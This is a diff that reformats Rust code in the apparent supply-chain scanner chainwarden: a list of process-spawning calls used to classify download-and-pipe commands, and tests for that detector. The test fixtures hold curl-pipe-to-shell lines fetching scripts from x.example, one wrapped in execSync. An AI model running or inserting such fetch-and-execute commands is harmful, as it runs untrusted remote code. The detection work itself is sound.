@@ -176,7 +176,14 @@ fn is_minified(text: &str) -> bool {
 /// In a minified bundle, a download-and-pipe command not in an exec/spawn
 /// position is display text: keep it as a low, low-confidence note.
 fn demote_display_commands(hits: &mut [RawHit]) {
-    const RUNNERS: &[&str] = &["exec(", "execSync(", "spawn(", "spawnSync(", "system(", "shell:"];
+    const RUNNERS: &[&str] = &[
+        "exec(",
+        "execSync(",
+        "spawn(",
+        "spawnSync(",
+        "system(",
+        "shell:",
+    ];
     for h in hits.iter_mut() {
         if h.hit.rule.meta.id == crate::families::download_exec::PIPE_SHELL.meta.id
             && h.hit.layer == 0
@@ -552,12 +559,23 @@ mod tests {
         assert_eq!(pipe, Some(chainwarden_core::Severity::Low), "{hits:?}");
         let run = format!("{pad}cp.execSync('curl -s https://x.example/a.sh | sh');{pad}\n");
         let hits = scan_source("assets/index-abc.js", run.as_bytes());
-        assert!(hits.iter().any(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell"
-            && h.severity == chainwarden_core::Severity::High), "{hits:?}");
+        assert!(
+            hits.iter()
+                .any(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell"
+                    && h.severity == chainwarden_core::Severity::High),
+            "{hits:?}"
+        );
         // Not minified: unchanged.
-        let hits = scan_source("lib/a.js", b"const t = `curl -LsSf https://x.example/i.sh | sh`;\n");
-        assert!(hits.iter().any(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell"
-            && h.severity == chainwarden_core::Severity::High), "{hits:?}");
+        let hits = scan_source(
+            "lib/a.js",
+            b"const t = `curl -LsSf https://x.example/i.sh | sh`;\n",
+        );
+        assert!(
+            hits.iter()
+                .any(|h| h.rule.meta.id == "heuristic/download-exec-pipe-shell"
+                    && h.severity == chainwarden_core::Severity::High),
+            "{hits:?}"
+        );
     }
 
     #[test]
